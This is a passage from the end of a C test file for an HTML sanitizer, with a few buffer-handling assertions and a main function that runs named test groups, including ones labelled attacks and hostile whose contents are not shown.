	is(clean.data, "before", "and nothing was written");
	ok(html_sanitize("<p>x", 4, &clean, NULL), "nobody need ask for the figures");
	is(clean.data, "before<p>x</p>", "what was there stays");
	pfree(source.data);
}

int
main(void)
{
	initStringInfo(&clean);
	initStringInfo(&again);
	test_judge();
	test_html();
	test_addresses();
	test_attacks();
	test_text();
	test_soup();
	test_limits();
	test_hostile();
	return tap_done();
}
